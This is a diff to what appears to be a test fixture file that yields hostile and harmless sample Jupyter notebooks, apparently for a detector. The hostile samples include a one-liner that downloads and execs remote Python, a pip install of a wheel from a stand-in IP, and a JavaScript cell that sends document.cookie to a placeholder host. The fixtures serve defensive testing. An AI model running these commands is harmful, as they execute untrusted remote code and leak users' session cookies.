@@ -67,6 +67,8 @@ def hostile() -> Iterator[Sample]:
         "python3 -c \"import urllib.request as u; exec(u.urlopen('http://203.0.113.9/').read())\""
     )
     yield "cell_one_line.ipynb", _notebook("code", f"!!{one_line}")
+    install = "%pip install -q http://203.0.113.9/pack-1.0-py3-none-any.whl"
+    yield "cell_install.ipynb", _notebook("code", install)
     yield (
         "cell_script.ipynb",
         _notebook("code", "%%javascript\nfetch('http://x.example/' + document.cookie)"),
@@ -130,6 +132,8 @@ def harmless() -> Iterator[Sample]:
         b"[build-system]\nrequires = ['setuptools>=61']\n[project.urls]\nHomepage = 'http://x.example'\n",
     )
     yield "cell_magic.ipynb", _notebook("code", "%%bash\npip install transformers\nls")
+    install = "!pip install -i http://10.1.2.3/simple pack http://10.1.2.3/pack-1.0.whl"
+    yield "cell_install.ipynb", _notebook("code", install)
     yield "cell_page.ipynb", _notebook("code", "%%html\n<style>td { color: red }</style>")
     yield (
         "kernel/config.json",
